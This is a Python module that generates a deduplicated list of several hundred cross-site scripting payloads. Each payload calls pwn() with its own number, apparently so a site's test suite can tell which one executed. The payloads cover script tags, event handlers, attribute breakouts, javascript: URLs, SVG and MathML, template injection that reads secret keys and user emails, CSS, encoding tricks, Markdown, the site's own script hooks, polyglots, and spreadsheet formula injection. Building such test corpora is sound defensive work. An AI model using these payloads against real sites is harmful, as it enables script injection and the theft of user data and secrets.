"""Texts that try to run a script in the reader's browser, each short enough for a box of 80.

Each calls `pwn` with its own number when it runs (`§` stands for the call, `¶` for the number), so
that a test can say which one did. Families after what browsers are known to run: tags and handlers,
ways out of attributes and elements, addresses, SVG and MathML, templates, style sheets, encodings,
Markdown, what our own scripts look for, and texts that fit several places at once.
"""

from itertools import product

LONGEST = 80


def _tags():
    for open_tag, close in [
        ("<script>", "</script>"), ("<SCRIPT>", "</SCRIPT>"), ("<ScRiPt >", "</sCrIpT >"),
        ("<script\n>", "</script\t>"), ("<script/x>", "</script>"), ("<script x=y>", "</script>"),
        ("<script/src=//x.example>", "</script>"), ("<scr<script>ipt>", "</scr</script>ipt>"),
        ("<<script>", "//<</script>"), ("<script type=module>", "</script>"),
        ("<script defer>", ""), ("<script>/*", "*/</script>"), ("<script nonce>", "</script>"),
        ("<script>//>\n", "</script>"), ("<script>`", "`</script>"), ("\0<script>", "</script>"),
    ]:  # fmt: skip
        yield f"{open_tag}§{close}"


def _handlers():
    tags = ["img src=x", "img/src=x", "IMG SRC=x", "video src=x", "audio src=x", "body", "svg",
            "details open", "input autofocus", "select autofocus", "textarea autofocus",
            "marquee", "iframe", "object data=x", "embed src=x", "link rel=stylesheet href=x",
            "style", "a href=x", "div", "button", "form", "isindex", "keygen autofocus"]  # fmt: skip
    handlers = ["onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onstart"]
    for tag, handler in product(tags, handlers):
        if (len(tag) + len(handler)) % 4 == 0 or handler in ("onerror", "onload"):
            yield f"<{tag} {handler}=§>"
    yield from [
        "<img src=x onerror\n=§>",
        "<img src=x onerror=\t§>",
        '<img src="x"onerror="§">',
        "<img src='x'onerror='§'>",
        "<img src=x oNeRrOr=§>",
        "<img\x0csrc=x\x0conerror=§>",
        "<img src=x onerror=`§`>",
        "<img src=x:x onerror=§//>",
        "<image src=x onerror=§>",
        "<img src=x onerror=&#112;wn(¶)>",
        "<x onpointerrawupdate=§>x",
        "<x contenteditable onblur=§>x",
        "<video><source onerror=§>",
        "<div onanimationend=§ style=animation:x>",
        "<body onpageshow=§>",
    ]


def _ways_out():
    breaks = ['">', "'>", "`>", '"/>', "</title>", "</textarea>", "</script>", "</style>", "</a>",
              "-->", "--!>", "]]>", "</noscript>", "</option></select>", "</p></div>", "</h1>",
              "</template>", "</iframe>", "</xmp>", "\n", '\\">', "</td></table>"]  # fmt: skip
    for out, inside in product(breaks, ["<script>§</script>", "<img src=x onerror=§>"]):
        yield f"{out}{inside}"
    for quote in ['"', "'", "`", '" ', "' ", '"\n', '"/']:
        yield f"{quote}onfocus={quote.strip()}§{quote.strip()} autofocus x="
        yield f"{quote}onmouseover=§ "
        yield f"{quote}style={quote.strip()}x:expression(§)"


def _addresses():
    schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
               "\x01javascript:", "javascript\t:", "javascript&colon;", "&#106;avascript:",
               "&#x6A;avascript&#58;", "javascript:/*--></title>*/", "javascript://%0a",
               "vbscript:", "feed:javascript:", "view-source:javascript:",
               "data:text/html,<script>", "data:text/html;base64,PHN", "jav&#x09;ascript:",
               "javascript:void(0);", "https://x.example/\" onclick=", "//x.example/"]  # fmt: skip
    for scheme in schemes:
        yield f"{scheme}§"
        yield f"<a href='{scheme}§'>x</a>"
        yield f"[x]({scheme}§)"
    yield from [
        "<form action=javascript:§><button>x",
        "<button formaction=javascript:§>x",
        "<iframe src=javascript:§>",
        "<object data=javascript:§>",
        "<base href=//x.example>",
        "<meta http-equiv=refresh content='0;javascript:§'>",
        "<embed src=javascript:§>",
        "<iframe srcdoc='<script>§</script>'>",
        "<area href=javascript:§>",
        "<a href=x ping=javascript:§>x",
        "<table background=javascript:§>",
        "<img srcset=javascript:§>",
        "<video poster=javascript:§>",
    ]


def _drawings():
    yield from [
        "<svg><script>§</script>", "<svg/onload=§>", "<svg onload=§//", "<svg><script/href=x>§",
        "<svg><animate onbegin=§ attributeName=x>", "<svg><set onbegin=§ attributeName=x>",
        "<svg><a xlink:href=javascript:§>x", "<svg><use href=data:image/svg+xml,§>",
        "<svg><image href=x onerror=§>", "<svg><title><img src=x onerror=§>",
        "<svg><style><img src=x onerror=§>", "<svg><foreignObject><img src=x onerror=§>",
        "<svg><desc><script>§</script>", "<svg><script>§&#41;</script>", "<svg></p><img src=x onerror=§>",
        "<math><mtext><img src=x onerror=§>", "<math href=javascript:§>x",
        "<math><mi xlink:href=javascript:§>x", "<math><maction actiontype=x xlink:href=javascript:§>",
        "<math><mglyph><style><img src=x onerror=§>", "<math><annotation-xml><script>§</script>",
        "<form><math><mtext></form><img src=x onerror=§>", "<?xml-stylesheet href=javascript:§?>",
        "<!ENTITY x '§'>", "<![CDATA[<script>§</script>]]>", "<?php § ?>", "<!--><img src=x onerror=§>",
    ]  # fmt: skip


def _templates():
    """`PWNED` appears only where somebody has worked the expression out."""
    yield from [
        '{{ "PWN"|add:"ED" }}¶', "{{ request.user.email }}¶", "{{ settings.SECRET_KEY }}¶",
        '{% firstof "PWN" %}ED¶', "{% debug %}¶", "{% load log %}¶", "{% include 'base.html' %}¶",
        "{% csrf_token %}¶", "{# § #}", "${§}", "#{§}", "<%= § %>", "{{constructor.constructor('§')()}}",
        "{{$on.constructor('§')()}}", "{{_c.constructor('§')()}}", "{{= § }}", "@(§)", "[[${§}]]",
        "<div ng-app ng-init=§>", "<x v-html=§>", "<x x-init=§ x-data>", "%(§)s", "{0.__class__}¶",
        "{title.__init__.__globals__}¶", "%s%s%s%n ¶", "{person} {when} ¶",
    ]  # fmt: skip


def _sheets():
    yield from [
        "<style>@import'javascript:§'</style>", "<style>*{x:expression(§)}</style>",
        "<div style=background:url(javascript:§)>x", "<div style='width:expression(§)'>x",
        "<link rel=stylesheet href=data:text/css,§>", "<style onload=§>*{}</style>",
        "</style><script>§</script>", "<div style=-moz-binding:url(§)>x", "<xss style=behavior:url(§)>",
        "<style>*{background:url('//x.example/¶')}</style>", "<p style='position:fixed;inset:0'>¶",
    ]  # fmt: skip


def _encodings():
    yield from [
        "&lt;script&gt;§&lt;/script&gt;", "&#60;script&#62;§&#60;/script&#62;", "&#x3Cscript>§",
        "&ltscript>§", "%3Cscript%3E§%3C/script%3E", "%253Cscript%253E§", "\\u003cscript\\u003e§",
        "\\x3cscript\\x3e§", "＜script＞§＜/script＞", "‹script›§", "+ADw-script+AD4-§", "\u00bcscript\u00be§",
        "%C0%BCscript%C0%BE§", "<\u200bscript>§</script>", "<script\u00a0>§</script>", "\u202e<script>§",
        "<scr\u00adipt>§</script>", "<ſcript>§</ſcript>", "<ımg src=x onerror=§>", "<\u0301script>§",
        "&amp;lt;script&amp;gt;§", "&quot;onfocus=§ autofocus", "&#34;onfocus=§ autofocus",
        "<img src=x onerror=\\u0070wn(¶)>", "\ufeff<script>§</script>", "\ud7ff<script>§</script>",
        "&NewLine;<script>§</script>", "<img src=x onerror=eval('\\160wn(¶)')>", "=cmd|'§'!A1", "@SUM(§)",
    ]  # fmt: skip


def _markdown():
    yield from [
        '![x](x"onerror="§)', "<javascript:§>", "[x]: javascript:§", "[x](<javascript:§>)",
        '[x](https://x.example "onclick=§")', "![x](javascript:§)", "**<script>§</script>**",
        "`<script>§</script>`", "```\n<script>§</script>", "> <script>§</script>", "# <img src=x onerror=§>",
        "[<img src=x onerror=§>](x)", "[x](data:text/html,<script>§</script>)", "~~<svg/onload=§>~~",
        "| <script>§</script> |", "- <script>§</script>", "<https://x.example/\"onclick=§>",
    ]  # fmt: skip


def _our_own_scripts():
    """Names that the site's own scripts look for."""
    yield from [
        "<div data-module=govuk-accordion onclick=§>", "<div hx-get=/ hx-trigger=load hx-on=§>",
        "<x hx-on:load=§>", "<select data-autocomplete><option>§", "<script id=app-script data-govuk=§>",
        "<form id=app-script><input name=dataset value=§>", "<img name=initAll src=x onerror=§>",
        "<a id=accessibleAutocomplete href=javascript:§>x", "<template><script>§</script></template>",
        "<button data-module=govuk-button onclick=§>x", "<div class=js-enabled onload=§>",
        "<form name=body><input name=classList value=§>", "<meta name=csrf content=§>",
        "<input name=csrfmiddlewaretoken value=§>", "<label for=q onclick=§>x",
    ]  # fmt: skip


def _polyglots():
    yield from [
        "jaVasCript:/*-/*`/*'/*\"/**/(/* */onerror=§ )//", "'\"><img src=x onerror=§>{{7*7}}${7*7}",
        "*/§/*--></style></script><svg onload=§>", "';§//\";§//-->\">'><script>§</script>",
        "\"'`><script>§</script>${§}{{§}}", "--><svg/onload='§'>{%x%}", "</title><svg/onload=§><!--",
        "javascript:\"/*'/*`/*--></script><svg/onload=§>", "<x onclick=§>%0a<!--\"'-->`",
    ]  # fmt: skip


FAMILIES = (_tags, _handlers, _ways_out, _addresses, _drawings, _templates, _sheets, _encodings,
            _markdown, _our_own_scripts, _polyglots)  # fmt: skip


def payloads() -> list[str]:
    """All of them, no two alike."""
    texts = dict.fromkeys(text for family in FAMILIES for text in family())
    return [
        text.replace("§", f"pwn({number})").replace("¶", str(number))
        for number, text in enumerate(texts, start=100)
    ]
